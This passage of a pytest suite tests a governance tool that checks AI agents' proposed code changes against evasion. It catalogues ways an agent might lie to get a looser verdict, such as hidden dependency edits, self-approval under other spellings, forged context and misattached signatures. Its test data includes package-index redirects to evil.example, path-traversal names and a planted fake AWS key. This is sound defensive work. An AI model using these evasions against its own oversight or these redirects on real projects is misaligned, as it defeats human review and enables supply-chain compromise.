"""Attacks on 'facts, not claims': what a governed agent writes to get a looser verdict.

The agent writes the proposal, the files, the commits, the lockfiles and the CI
evidence. Each case below is one attempt (the comment says what it tries); Charter
must derive the fact itself, never let a declaration loosen the decision, answer
anything it cannot resolve with at least ``ask`` and any bad input with exit 2 —
never a traceback. Signatures here are made in the test with keys generated on the
fly (TEST-ONLY); the SBOM and the DSSE vectors are real tool output from
tests/assets/evidence (see its README).
"""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

from charter.core.errors import InputError
from charter.facts.attestations import IN_TOTO_PAYLOAD, pae
from charter.facts.dependencies import derive_dependency_changes, is_dependency_file
from charter.facts.evidence import collect, collect_files, inline_files
from charter.facts.identities import IdentityMap
from charter.facts.reconcile import Facts, reconcile
from charter.trust.keys import verifying_key_from_pem
from charter.trust.policy import EvidenceTrust
from tests.cli_helpers import invoke
from tests.test_facts_git import commit, git

NOW = "2026-11-20T10:00:00Z"
EVIDENCE = Path(__file__).parent / "assets" / "evidence"
LOCAL = EVIDENCE / "attestations" / "local-dsse-test-vectors"
LINK = EVIDENCE / "attestations" / "in-toto-run-link"
RELEASE = Path(__file__).resolve().parents[1] / "examples" / "release-with-evidence" / "dist"
HELLO_DIGEST = "sha256:37441ff5890982bc9e9427441fefcfed33d39ec3e0f8f221c35a43c1ca9088c0"
FACTS_RULE = "PROC-DECLARED-FACTS-MATCH-001"
BUILDER = "https://example.com/TEST-ONLY-builder"


def _doc(**extra: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "kind": "pull_request",
        "repository": "acme/app",
        "author": {"id": "coder@agents.example", "type": "agent"},
    }
    base.update(extra)
    return base


def _check(tmp_path: Path, document: dict[str, Any], *args: str) -> tuple[int, dict[str, Any]]:
    path = tmp_path / "proposal.json"
    path.write_text(json.dumps(document))
    result = invoke("check", str(path), *args, "--now", NOW, "--format", "json", "--no-audit")
    assert result.returncode in (0, 1, 3), result.stderr
    return result.returncode, json.loads(result.stdout)


def _rules(decision: dict[str, Any]) -> set[str]:
    return {r["rule"] for r in decision["reasons"]}


# ---------------------------------------------------------------- dependency files
# Files a package manager reads to decide what it installs. Listing one in a change
# must make dependencies.changed true, whatever the document declares.
DEPENDENCY_FILES = [
    # npm opens Package-Lock.json as package-lock.json on a case-insensitive file system
    "Package-Lock.json",
    # the same for a lockfile in a subfolder, all capitals
    "WEB/YARN.LOCK",
    # pip-tools' input file, installed with pip install -r
    "requirements.in",
    # an input file in a requirements folder
    "requirements/prod.in",
    # pip -c constraints pin what gets installed
    "constraints.txt",
    # a requirements file named with the word last
    "dev-requirements.txt",
    # capitalised requirements file
    "Requirements.txt",
    # npm install resolves package.json when it disagrees with the lockfile
    "package.json",
    # a workspace package's manifest
    "packages/api/package.json",
    # pip install . reads [project].dependencies; there may be no lockfile at all
    "pyproject.toml",
    # pipenv install re-locks from the Pipfile
    "Pipfile",
    # cargo build without --locked updates Cargo.lock from Cargo.toml
    "Cargo.toml",
    # Ruby code that decides the bundle (not read: unknown, at least ask)
    "Gemfile",
    # a gem's own dependency list (Ruby code)
    "app.gemspec",
    # install_requires in Python code
    "setup.py",
    # install_requires in setup.cfg
    "setup.cfg",
    # go.work replaces modules for the whole workspace
    "go.work",
    # registry redirection for npm
    ".npmrc",
    # registry redirection for yarn berry
    ".yarnrc.yml",
    # pip's index configuration
    "pip.conf",
    # bun's lockfile
    "bun.lock",
    # held before: the leading ./ is stripped by the base-name rule
    "./package-lock.json",
    # held before: a ./ inside the path
    "web/./package-lock.json",
    # held before: npm's publishable lockfile
    "npm-shrinkwrap.json",
    # held before: a lockfile deep in a monorepo
    "a/b/yarn.lock",
    # held before: requirements folder
    "requirements/prod.txt",
    # held before: a Windows separator
    "web\\package-lock.json",
    # held before: underscore variant
    "requirements_dev.txt",
]


@pytest.mark.parametrize("path", DEPENDENCY_FILES)
def test_a_listed_dependency_file_means_dependencies_changed(path: str) -> None:
    assert is_dependency_file(path), path
    result = reconcile(_doc(files=[{"path": path}], dependencies={"changed": False}))
    assert result.document["dependencies"]["changed"] is True
    assert [c["field"] for c in result.contradictions] == ["dependencies.changed"]


@pytest.mark.parametrize(
    "path",
    [
        # a backup copy no package manager reads
        "package-lock.json.orig",
        # prose about requirements
        "docs/requirements.md",
        # source code
        "src/app.py",
    ],
)
def test_files_no_package_manager_reads_derive_nothing(path: str) -> None:
    assert not is_dependency_file(path)


def test_a_lockfile_renamed_away_is_a_dependency_change() -> None:
    # The agent moves package-lock.json out of the way and lists only the new name.
    moved = {
        "path": "docs/old-lock.json",
        "status": "renamed",
        "previous_path": "package-lock.json",
    }
    result = reconcile(_doc(files=[moved], dependencies={"changed": False}))
    assert result.document["dependencies"]["changed"] is True
    assert "package-lock.json" in result.contradictions[0]["source"]


# ---------------------------------------------------------------- requirements options
BEFORE = b"requests==2.31.0\n"


@pytest.mark.parametrize(
    ("line", "name", "value"),
    [
        # include another file pip will read (its content never shows otherwise)
        (b"-r extra.in", "--requirement", "extra.in"),
        # long include with =
        (b"--requirement=more.txt", "--requirement", "more.txt"),
        # a constraints file pins what is installed
        (b"-c constraints.txt", "--constraint", "constraints.txt"),
        # pip's option parser takes an unambiguous prefix: --extra-index = --extra-index-url
        (
            b"--extra-index https://evil.example/simple",
            "--extra-index-url",
            "https://evil.example/simple",
        ),  # fmt: skip
        # --index is a prefix of --index-url only
        (b"--index https://evil.example/simple", "--index-url", "https://evil.example/simple"),
        # a short option with its value attached
        (b"-ihttps://evil.example/simple", "--index-url", "https://evil.example/simple"),
        # find-links attached
        (b"-fhttps://evil.example/wheels/", "--find-links", "https://evil.example/wheels/"),
        # a switch without a value
        (b"--no-index", "--no-index", "(set)"),
        # held before: the long form
        (
            b"--extra-index-url https://evil.example/simple",
            "--extra-index-url",
            "https://evil.example/simple",
        ),  # fmt: skip
    ],
)
def test_every_pip_option_line_is_an_entry(line: bytes, name: str, value: str) -> None:
    facts = derive_dependency_changes({"requirements.txt": (BEFORE, BEFORE + line + b"\n")})
    assert [(c.name, c.old, c.new) for c in facts.changes] == [(name, None, value)]


# ---------------------------------------------------------------- manifests
def test_a_dependency_added_to_package_json_only_needs_a_scan(tmp_path: Path) -> None:
    # The agent adds a package to package.json and leaves the lockfile alone
    # (npm install resolves it anyway): no scan, no ask, before the fix.
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "package.json").write_text('{"name": "app", "dependencies": {"left-pad": "1.3.0"}}')
    commit(root, "base")
    git(root, "checkout", "-q", "-b", "feature")
    (root / "package.json").write_text(
        '{"name": "app", "dependencies": {"left-pad": "1.3.0", "evil-pkg": "^6.6.6"}}'
    )
    commit(root, "add a package", author="Coder <coder@agents.example>")
    built = invoke(
        "proposal", "from-git", "--repo", str(root), "--base", "main", "--head", "feature"
    )
    assert built.returncode == 0, built.stderr
    deps = json.loads(built.stdout)["dependencies"]
    assert deps["changed"] is True
    assert [(c["name"], c["old"], c["new"], c["direct"]) for c in deps["changes"]] == [
        ("evil-pkg", None, "^6.6.6", True)
    ]
    code, decision = _check(tmp_path, _doc(), "--git", "main..feature", "--repo", str(root))
    assert code == 1 and "SC-DEPENDENCY-SCAN-001" in _rules(decision)


@pytest.mark.parametrize(
    ("path", "before", "after", "expected"),
    [
        # a new requirement in [project].dependencies (pip install . reads it)
        (
            "pyproject.toml",
            b'[project]\nname = "a"\ndependencies = ["requests>=2"]\n',
            b'[project]\nname = "a"\ndependencies = ["requests>=2", "Evil_Pkg[x]==6.6"]\n',
            [("evil-pkg", None, "[x]==6.6")],
        ),  # fmt: skip
        # a new index for uv moves where every package comes from
        (
            "pyproject.toml",
            b'[project]\nname = "a"\n',
            b'[project]\nname = "a"\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\n',
            [("[tool.uv]", None, "(settings)")],
        ),  # fmt: skip
        # a Poetry dependency as a table pointing at a git repository
        (
            "pyproject.toml",
            b"[tool.poetry.dependencies]\npython = '^3.11'\n",
            b"[tool.poetry.dependencies]\npython = '^3.11'\nx = {git = 'https://evil.example/x'}\n",
            [("x", None, None)],
        ),  # fmt: skip
        # a Pipfile package
        (
            "Pipfile",
            b"[packages]\nrequests = '*'\n",
            b"[packages]\nrequests = '*'\nevil = '*'\n",
            [("evil", None, "*")],
        ),  # fmt: skip
        # a Cargo [patch] swaps a crate's source for every dependent
        (
            "Cargo.toml",
            b'[dependencies]\nserde = "1"\n',
            b'[dependencies]\nserde = "1"\n[patch.crates-io]\nserde = {git = "https://evil.example"}\n',
            [("[patch]", None, "(settings)")],
        ),  # fmt: skip
        # an npm override forces a version everywhere in the tree
        (
            "package.json",
            b'{"name": "a"}',
            b'{"name": "a", "overrides": {"minimist": "0.0.1"}}',
            [("overrides:minimist", None, "0.0.1")],
        ),  # fmt: skip
        # a scripts-only edit changes no dependency (no false positive)
        (
            "package.json",
            b'{"name": "a", "scripts": {"t": "x"}}',
            b'{"name": "a", "scripts": {"t": "y"}}',
            [],
        ),  # fmt: skip
    ],
)
def test_manifests_are_read(path: str, before: bytes, after: bytes, expected: list[Any]) -> None:
    facts = derive_dependency_changes({path: (before, after)})
    assert facts.unparsed == ()
    assert [(c.name, c.old, c.new) for c in facts.changes] == expected


@pytest.mark.parametrize(
    ("path", "data", "reason"),
    [
        # a dependency whose range is not text: cannot be read with certainty
        ("package.json", b'{"dependencies": {"x": 1}}', "not a version range string"),
        # a manifest that is not JSON
        ("package.json", b'{"dependencies": ', "malformed JSON"),
        # Ruby code: Charter does not run it, so the change is unknown (ask)
        ("Gemfile", b"gem 'rails'\n", "Ruby code"),
        # registry configuration: unknown, at least ask
        (".npmrc", b"registry=https://evil.example/\n", "package-manager configuration"),
    ],
)
def test_manifests_that_cannot_be_read_are_unparsed(path: str, data: bytes, reason: str) -> None:
    facts = derive_dependency_changes({path: (None, data)})
    assert facts.changes == ()
    [unparsed] = facts.unparsed
    assert unparsed.path == path and reason in unparsed.reason


# ---------------------------------------------------------------- the change's kind
@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "app.py").write_text("v1\n")
    commit(root, "base")
    git(root, "checkout", "-q", "-b", "feature")
    (root / "app.py").write_text("v2\n")
    commit(root, "change")
    return root


@pytest.mark.parametrize(
    ("declared", "contradiction"),
    [
        # the pull request's own document, decided when CI merges it: judged as the merge
        ("pull_request", False),
        # CI decides a merge; the document calls it a push so the merge rules do not apply
        ("push", True),
        # ... or a release
        ("release", True),
    ],
)
def test_the_kind_is_the_callers_not_the_agents(
    repo: Path, tmp_path: Path, declared: str, contradiction: bool
) -> None:
    document = _doc(kind=declared, author={"id": "ada@example.com", "type": "agent"})
    args = ("--git", "main..feature", "--kind", "merge", "--repo", str(repo))
    code, decision = _check(tmp_path, document, *args)
    assert code == 1 and "PROC-MERGE-HUMAN-APPROVALS-001" in _rules(decision)
    kinds = [r for r in decision["reasons"] if r["rule"] == FACTS_RULE and "kind" in r["msg"]]
    assert len(kinds) == (1 if contradiction else 0)


def test_an_honest_kind_contradicts_nothing(repo: Path, tmp_path: Path) -> None:
    # Control: the same kind as CI's is not a contradiction.
    document = _doc(kind="merge", author={"id": "ada@example.com", "type": "agent"})
    args = ("--git", "main..feature", "--kind", "merge", "--repo", str(repo))
    _, decision = _check(tmp_path, document, *args)
    assert FACTS_RULE not in _rules(decision)


# ---------------------------------------------------------------- evidence
def _ed25519() -> tuple[ed25519.Ed25519PrivateKey, EvidenceTrust, bytes]:
    key = ed25519.Ed25519PrivateKey.generate()
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "test.pub"),), builders=(BUILDER,))
    return key, trust, pem


def _envelope(key: ed25519.Ed25519PrivateKey, payload: bytes) -> dict[str, Any]:
    signature = key.sign(pae(IN_TOTO_PAYLOAD, payload))
    return {
        "payloadType": IN_TOTO_PAYLOAD,
        "payload": base64.b64encode(payload).decode(),
        "signatures": [{"keyid": "", "sig": base64.b64encode(signature).decode()}],
    }


def _statement(digest: str, predicate_type: str, name: str = "app") -> bytes:
    statement = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": name, "digest": {"sha256": digest.removeprefix("sha256:")}}],
        "predicateType": predicate_type,
        "predicate": {"runDetails": {"builder": {"id": BUILDER}}},
    }
    return json.dumps(statement).encode()


def _artifact(evidence: Any, name: str) -> dict[str, Any]:
    [found] = [a for a in evidence.artifacts if a["name"] == name]
    return dict(found)


def test_a_declared_digest_does_not_rename_a_file_in_the_evidence(tmp_path: Path) -> None:
    # The evidence holds the agent's own build as hello-artifact.txt next to a genuine
    # provenance of the real one; the document declares the real one's digest under
    # the same name, hoping the provenance is attached to the file.
    pem = (LOCAL / "TEST-ONLY-ed25519.pub.pem").read_bytes()
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "k"),), builders=("*",))
    directory = tmp_path / "dist"
    directory.mkdir()
    (directory / "hello-artifact.txt").write_bytes(b"another build\n")
    shutil.copyfile(LOCAL / "provenance.ed25519.dsse.json", directory / "provenance.dsse.json")
    declared = [{"name": "hello-artifact.txt", "digest": HELLO_DIGEST}]
    found = _artifact(collect(directory, trust, declared), "hello-artifact.txt")
    assert found["digest"] == "sha256:" + hashlib.sha256(b"another build\n").hexdigest()
    assert "provenance" not in found
    # End to end: the release is denied, naming the digest the document got wrong.
    policy = tmp_path / "trust.toml"
    shutil.copyfile(LOCAL / "TEST-ONLY-ed25519.pub.pem", tmp_path / "evidence.pub")
    policy.write_text('[evidence]\nkeys = ["evidence.pub"]\nbuilders = ["https://example.com/*"]\n')
    release = _doc(
        kind="release",
        artifacts=[{**declared[0], "provenance": {"format": "in-toto", "signed": True}}],
    )
    code, decision = _check(tmp_path, release, "--evidence", str(directory), "--trust", str(policy))
    assert code == 1
    assert {FACTS_RULE, "SC-SIGNED-PROVENANCE-001"} <= _rules(decision)
    assert any("digest" in r["msg"] for r in decision["reasons"] if r["rule"] == FACTS_RULE)


def test_a_declared_digest_without_its_file_still_receives_its_attestation(
    tmp_path: Path,
) -> None:
    # Held (by design): an image is referenced by digest; its attestation counts.
    pem = (LOCAL / "TEST-ONLY-ed25519.pub.pem").read_bytes()
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "k"),), builders=("*",))
    directory = tmp_path / "dist"
    directory.mkdir()
    shutil.copyfile(LOCAL / "provenance.ed25519.dsse.json", directory / "provenance.dsse.json")
    found = collect(directory, trust, [{"name": "image", "digest": HELLO_DIGEST}])
    assert _artifact(found, "image")["provenance"]["signed"] is True


def test_a_signed_sbom_of_another_artifact_is_not_attached_by_its_name(tmp_path: Path) -> None:
    # The agent copies a genuinely signed SBOM (it describes another file by digest)
    # next to its own build as app.spdx.json, with the SBOM's valid signature.
    key = ec.generate_private_key(ec.SECP256R1())
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "cosign.pub"),))
    directory = tmp_path / "dist"
    directory.mkdir()
    (directory / "app").write_bytes(b"the agent's build\n")
    sbom = (EVIDENCE / "sbom" / "anchore-syft" / "2.3.json").read_bytes()
    (directory / "app.spdx.json").write_bytes(sbom)
    signature = base64.b64encode(key.sign(sbom, ec.ECDSA(hashes.SHA256())))
    (directory / "app.spdx.json.sig").write_bytes(signature)
    part = _artifact(collect(directory, trust), "app")["sbom"]
    assert part["signed"] is False
    assert "app.spdx.json: describes sha256:dc333f34" in part["error"]


def test_a_signed_statement_attaches_only_by_digest_never_by_subject_name(tmp_path: Path) -> None:
    # The statement names "app" but carries another digest.
    key, trust, _ = _ed25519()
    directory = tmp_path / "dist"
    directory.mkdir()
    (directory / "app").write_bytes(b"build\n")
    other = hashlib.sha256(b"other build\n").hexdigest()
    payload = _statement(other, "https://slsa.dev/provenance/v1", name="app")
    (directory / "app.dsse.json").write_text(json.dumps(_envelope(key, payload)))
    assert "provenance" not in _artifact(collect(directory, trust), "app")


@pytest.mark.parametrize(
    "predicate_type",
    [
        # another case of the SLSA URI is not the SLSA predicate
        "HTTPS://SLSA.DEV/PROVENANCE/V1",
        # an in-toto link passed off as provenance
        "https://in-toto.io/attestation/link/v0.3",
        # a test-result attestation is not provenance
        "https://in-toto.io/attestation/test-result/v0.1",
    ],
)
def test_only_a_provenance_predicate_is_provenance(tmp_path: Path, predicate_type: str) -> None:
    key, trust, _ = _ed25519()
    directory = tmp_path / "dist"
    directory.mkdir()
    (directory / "app").write_bytes(b"build\n")
    payload = _statement(hashlib.sha256(b"build\n").hexdigest(), predicate_type)
    (directory / "app.dsse.json").write_text(json.dumps(_envelope(key, payload)))
    assert "provenance" not in _artifact(collect(directory, trust), "app")


def test_a_real_in_toto_link_is_not_provenance(tmp_path: Path) -> None:
    # in-toto-run's signed link names the tarball as a product: still not provenance.
    pem = (LINK / "TEST-ONLY-ed25519.pub.pem").read_bytes()
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "k"),), builders=("*",))
    directory = tmp_path / "dist"
    directory.mkdir()
    for name in ("hello-artifact.tar.gz", "package.b07e7ca0.link"):
        shutil.copyfile(LINK / name, directory / name)
    found = _artifact(collect(directory, trust), "hello-artifact.tar.gz")
    assert "provenance" not in found and "sbom" not in found


def test_a_payload_with_duplicate_keys_never_verifies(tmp_path: Path) -> None:
    # A DSSE payload with two "subject" keys: parsers disagree on which one counts.
    key, trust, _ = _ed25519()
    directory = tmp_path / "dist"
    directory.mkdir()
    (directory / "app").write_bytes(b"build\n")
    digest = hashlib.sha256(b"build\n").hexdigest()
    good = _statement(digest, "https://slsa.dev/provenance/v1")
    payload = good.replace(b'"subject"', b'"subject": [], "subject"', 1)
    (directory / "app.dsse.json").write_text(json.dumps(_envelope(key, payload)))
    part = _artifact(collect(directory, trust), "app").get("provenance")
    assert part is not None and part["signed"] is False and "duplicate key" in part["error"]


def test_an_sbom_signature_over_other_bytes_does_not_sign_it(tmp_path: Path) -> None:
    # app.cdx.json.sig is a valid signature — of a different file.
    key = ec.generate_private_key(ec.SECP256R1())
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "cosign.pub"),))
    directory = tmp_path / "dist"
    directory.mkdir()
    # syft's SBOM of the example tarball names its digest: it is bound to "app".
    (directory / "app").write_bytes((RELEASE / "billing-cli-2.4.0.tar.gz").read_bytes())
    sbom = (RELEASE / "billing-cli-2.4.0.tar.gz.cdx.json").read_bytes()
    (directory / "app.cdx.json").write_bytes(sbom)
    signature = base64.b64encode(key.sign(b"build\n", ec.ECDSA(hashes.SHA256())))
    (directory / "app.cdx.json.sig").write_bytes(signature)
    part = _artifact(collect(directory, trust), "app")["sbom"]
    assert part["signed"] is False and part["error"]


@pytest.mark.parametrize(
    "name",
    [
        # one part longer than any file system allows
        "a" * 300,
        # a path longer than PATH_MAX (in fewer parts than MAX_INLINE_DEPTH)
        ("d" * 200 + "/") * 30 + "x",
    ],
)
def test_inline_evidence_with_an_impossible_name_is_an_input_error(name: str) -> None:
    files = inline_files(_doc(evidence={"files": [{"name": name, "base64": "aGk="}]}))
    assert files is not None
    with pytest.raises(InputError, match="proposal.evidence"):
        collect_files(files, EvidenceTrust())


def test_inline_evidence_nested_deeper_than_the_limit_is_an_input_error() -> None:
    # 1,200 folders fit PATH_MAX, but removing the scratch copy (shutil.rmtree, which
    # recurses once per folder) raised RecursionError: an HTTP 500 at the runner.
    name = "/".join(["a"] * 1200 + ["x.bin"])
    with pytest.raises(InputError, match=r"proposal.evidence.files\[0\].name: more than 32"):
        inline_files(_doc(evidence={"files": [{"name": name, "base64": "aGk="}]}))
    shallow = "/".join(["a"] * 31 + ["x.bin"])
    files = inline_files(_doc(evidence={"files": [{"name": shallow, "base64": "aGk="}]}))
    assert files is not None
    assert [a["name"] for a in collect_files(files, EvidenceTrust()).artifacts] == [shallow]


def test_inline_evidence_whose_file_sits_where_a_folder_must_go_is_an_input_error() -> None:
    # "x" is a file, then "x/y" needs x to be a folder.
    items = [{"name": "x", "base64": "aGk="}, {"name": "x/y", "base64": "aGk="}]
    files = inline_files(_doc(evidence={"files": items}))
    assert files is not None
    with pytest.raises(InputError, match="'x/y'"):
        collect_files(files, EvidenceTrust())


@pytest.mark.parametrize(
    "text",
    [
        # nesting deep enough to exhaust a recursive parser
        "[" * 5000 + "]" * 5000,
        # an integer longer than Python converts
        '{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": ' + "9" * 5000 + "}",
        # a float that overflows
        '{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1e99999}',
        # a duplicate key: parsers disagree on which value counts
        '{"bomFormat": "CycloneDX", "bomFormat": "SPDX"}',
    ],
)
def test_hostile_json_evidence_is_exit_2_naming_the_file(tmp_path: Path, text: str) -> None:
    directory = tmp_path / "dist"
    directory.mkdir()
    (directory / "app.cdx.json").write_text(text)
    (tmp_path / "p.json").write_text(json.dumps(_doc(kind="release")))
    result = invoke("check", str(tmp_path / "p.json"), "--evidence", str(directory), "--no-audit")
    assert result.returncode == 2 and "app.cdx.json" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_forged_context_is_discarded() -> None:
    # The document carries its own input.context saying nothing was contradicted.
    forged = {"facts": {"derived": [], "contradictions": []}, "parameters": {}}
    result = reconcile(
        _doc(files=[{"path": "go.mod"}], dependencies={"changed": False}, context=forged)
    )
    assert "context" not in result.document
    assert [c["field"] for c in result.contradictions] == ["dependencies.changed"]


# ---------------------------------------------------------------- identities
AGENTS = IdentityMap(
    agents=("*[bot]", "coder-agent"), agent_emails=("*@agents.example",), humans=("*",)
)


@pytest.mark.parametrize(
    "identity",
    [
        # GitHub logins ignore case
        "Renovate[BOT]",
        # leading space
        " coder-agent",
        # trailing space
        "coder-agent ",
        # capitals
        "Coder-Agent",
        # full-width brackets (NFKC folds them to [ ])
        "renovate\uff3bbot\uff3d",
        # an email in capitals with a trailing space
        "CODER@AGENTS.EXAMPLE ",
        # held before: the canonical spelling
        "renovate[bot]",
    ],
)
def test_another_spelling_of_an_agent_is_an_agent(identity: str) -> None:
    declared = _doc(author={"id": identity, "type": "human"})
    result = reconcile(declared, Facts(identities=AGENTS))
    assert result.document["author"]["type"] == "agent"
    assert [c["field"] for c in result.contradictions] == ["author.type"]


# ---------------------------------------------------------------- patches
# Built from pieces so that no scanner flags this file (TEST-ONLY, not a real key).
FAKE_AWS = "aws_access_key_id = " + "AKIA" + "Z3MHRS7QXNKJ4W5T\n"


@pytest.mark.parametrize(
    "attributes",
    [
        # the change's own .gitattributes turns diffs off for the file
        "*.cfg -diff\n",
        # the binary macro (-diff -merge -text)
        "settings.cfg binary\n",
    ],
)
def test_gitattributes_cannot_hide_a_text_file_from_the_secret_scan(
    tmp_path: Path, attributes: str
) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "app.py").write_text("v1\n")
    commit(root, "base")
    git(root, "checkout", "-q", "-b", "feature")
    (root / ".gitattributes").write_text(attributes)
    (root / "settings.cfg").write_text("region = 'eu'\n" + FAKE_AWS)
    (root / "image.bin").write_bytes(b"\x89PNG\x00\x01" * 10)
    commit(root, "config")
    built = invoke(
        "proposal", "from-git", "--repo", str(root), "--base", "main", "--head", "feature"
    )
    assert built.returncode == 0, built.stderr
    files = {f["path"]: f for f in json.loads(built.stdout)["files"]}
    assert files["settings.cfg"]["binary"] is False
    assert "Z3MHRS7QXNKJ4W5T" in files["settings.cfg"]["patch"]
    # Control: a file with NUL bytes is still binary, without a patch.
    assert files["image.bin"]["binary"] is True and files["image.bin"]["patch"] is None
    code, decision = _check(tmp_path, _doc(), "--git", "main..feature", "--repo", str(root))
    assert code == 1 and "CRED-NO-STATIC-SECRETS-001" in _rules(decision)


# ---------------------------------------------------------------- approvals, tools, ranges
@pytest.mark.parametrize(
    "spelling",
    [
        # GitHub logins ignore case
        "Ada",
        # trailing space
        "ada ",
        # full-width letters fold to ASCII under NFKC
        "\uff41da",
    ],
)
def test_the_authors_approval_under_another_spelling_is_a_self_approval(
    tmp_path: Path, spelling: str
) -> None:
    declared = _doc(
        kind="merge",
        base="main",
        author={"id": "ada", "type": "human"},
        approvals=[{"by": spelling, "type": "human"}],
    )
    result = reconcile(declared)
    # No identity map: the declared "human" is not believed either (unknown = agent).
    assert result.document["approvals"] == [{"by": "ada", "type": "agent"}]
    assert [c["field"] for c in result.contradictions] == ["approvals[0].by"]
    _, decision = _check(tmp_path, declared)
    assert {FACTS_RULE, "PROC-NO-SELF-APPROVAL-001", "PROC-MERGE-HUMAN-APPROVALS-001"} <= _rules(
        decision
    )


def _signed_syft_sbom(tmp_path: Path) -> tuple[Path, EvidenceTrust]:
    key = ec.generate_private_key(ec.SECP256R1())
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "cosign.pub"),))
    directory = tmp_path / "dist"
    directory.mkdir()
    # syft's SBOM of the example tarball names its digest: it is bound to "app".
    (directory / "app").write_bytes((RELEASE / "billing-cli-2.4.0.tar.gz").read_bytes())
    sbom = (RELEASE / "billing-cli-2.4.0.tar.gz.cdx.json").read_bytes()
    (directory / "app.cdx.json").write_bytes(sbom)
    signature = base64.b64encode(key.sign(sbom, ec.ECDSA(hashes.SHA256())))
    (directory / "app.cdx.json.sig").write_bytes(signature)
    return directory, trust


@pytest.mark.parametrize(
    ("declared", "contradicted"),
    [
        # the release claims the profile's tool; the signed SBOM was made by syft
        ("cdxgen", True),
        # held: the right tool, spelled as the profile does
        ("syft", False),
        # held: another case of the right tool
        ("Syft", False),
    ],
)
def test_the_sbom_tool_is_the_signed_sboms_generator(
    tmp_path: Path, declared: str, contradicted: bool
) -> None:
    directory, trust = _signed_syft_sbom(tmp_path)
    found = collect(directory, trust)
    assert _artifact(found, "app")["sbom"]["signed"] is True
    document = _doc(kind="release", tools={"sbom": declared, "signing": "cosign"})
    result = reconcile(document, Facts(artifacts=found.artifacts, scan=found.scan))
    fields = [c["field"] for c in result.contradictions]
    assert fields == (["tools.sbom"] if contradicted else [])
    assert result.document["tools"]["sbom"] == ("syft" if contradicted else declared)


def test_a_keyed_bundle_whose_signature_is_over_other_bytes_does_not_sign(tmp_path: Path) -> None:
    # A Sigstore bundle with a publicKey hint whose messageSignature signs another file.
    key = ec.generate_private_key(ec.SECP256R1())
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    trust = EvidenceTrust(keys=(verifying_key_from_pem(pem, "cosign.pub"),))
    directory = tmp_path / "dist"
    directory.mkdir()
    # syft's SBOM of the example tarball names its digest: it is bound to "app".
    (directory / "app").write_bytes((RELEASE / "billing-cli-2.4.0.tar.gz").read_bytes())
    sbom = (RELEASE / "billing-cli-2.4.0.tar.gz.cdx.json").read_bytes()
    (directory / "app.cdx.json").write_bytes(sbom)

    def bundle(signed: bytes) -> str:
        signature = base64.b64encode(key.sign(signed, ec.ECDSA(hashes.SHA256()))).decode()
        digest = base64.b64encode(hashlib.sha256(sbom).digest()).decode()
        return json.dumps(
            {
                "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
                "verificationMaterial": {"publicKey": {"hint": "test"}},
                "messageSignature": {
                    # the digest field names the SBOM; the signature is over other bytes
                    "messageDigest": {"algorithm": "SHA2_256", "digest": digest},
                    "signature": signature,
                },
            }
        )

    (directory / "app.cdx.json.sigstore.json").write_text(bundle(b"build\n"))
    assert _artifact(collect(directory, trust), "app")["sbom"]["signed"] is False
    # Control: the same bundle over the SBOM's own bytes signs it.
    (directory / "app.cdx.json.sigstore.json").write_text(bundle(sbom))
    assert _artifact(collect(directory, trust), "app")["sbom"]["signed"] is True


def test_a_declared_range_is_replaced_by_the_built_one() -> None:
    # Held: the agent declares another base/head than the range CI built.
    built = {
        **_doc(kind="pull_request"),
        "base": "main",
        "head": "feature",
        "base_sha": "a" * 40,
        "head_sha": "b" * 40,
        "files": [],
        "commits": [],
        "dependencies": {"changed": False, "changes": [], "unparsed": []},
    }
    declared = _doc(base="sandbox", head="main", base_sha="c" * 40)
    result = reconcile(declared, Facts(built=built))
    assert (result.document["base"], result.document["head"]) == ("main", "feature")
    assert result.document["base_sha"] == "a" * 40


@pytest.mark.parametrize(
    "evidence",
    [
        # a context smuggled next to the files
        {"files": [], "context": {"facts": {}}},
        # files that are not a list
        {"files": {"name": "a", "base64": "aGk="}},
        # an extra key in a file entry
        {"files": [{"name": "a", "base64": "aGk=", "digest": "sha256:0"}]},
        # base64 that is not base64
        {"files": [{"name": "a", "base64": "not base64!"}]},
        # a path that climbs out
        {"files": [{"name": "../a", "base64": "aGk="}]},
        # an absolute path
        {"files": [{"name": "/etc/a", "base64": "aGk="}]},
    ],
)
def test_malformed_inline_evidence_is_an_input_error(evidence: dict[str, Any]) -> None:
    # Held: every malformed shape names proposal.evidence.
    with pytest.raises(InputError, match="proposal.evidence"):
        inline_files(_doc(evidence=evidence))


# ---------------------------------------------------------------- inside lockfiles
def test_a_change_made_only_in_package_lock_v2s_legacy_tree_shows() -> None:
    # lockfileVersion 2 keeps npm 6's "dependencies" tree beside "packages"; the agent
    # bumps a package only there, where npm 6 installs from.
    path = Path(__file__).parent / "assets" / "lockfiles" / "npm-package-lock-v2" / "after"
